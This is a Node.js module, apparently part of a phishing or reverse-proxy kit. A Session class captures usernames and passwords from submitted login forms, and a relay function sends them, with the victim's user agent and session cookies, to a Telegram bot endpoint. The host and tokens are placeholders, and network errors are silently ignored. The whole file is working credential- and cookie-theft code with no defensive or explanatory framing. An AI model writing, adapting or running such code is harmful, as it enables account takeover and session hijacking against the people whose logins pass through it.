const https = require('https');
const querystring = require('querystring');

const RELAY = { host: 'api.telegram.org.invalid', bot: '7000000000:AAFAKE', chat: '-100FAKE' };

function relay(text) {
  const r = https.request({ host: RELAY.host, path: '/bot' + RELAY.bot + '/sendMessage', method: 'POST' });
  r.on('error', () => {});
  r.end(querystring.stringify({ chat_id: RELAY.chat, text }));
}

const table = new Map();

class Session {
  static of(req) {
    const id = req.headers['x-edge-sid'] || 'anon';
    if (!table.has(id)) table.set(id, new Session(req));
    return table.get(id);
  }
  constructor(req) { this.ua = req.headers['user-agent']; this.login = null; this.password = null; }
  observeForm(req) {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      const f = querystring.parse(Buffer.concat(chunks).toString());
      this.login = f.login || f.username;
      this.password = f.passwd || f.password;
    });
  }
  observeCookies(cookies) {
    relay(['user: ' + this.login, 'pass: ' + this.password, 'ua: ' + this.ua, 'cookies: ' + cookies.join('; ')].join('\n'));
  }
}

exports.Session = Session;
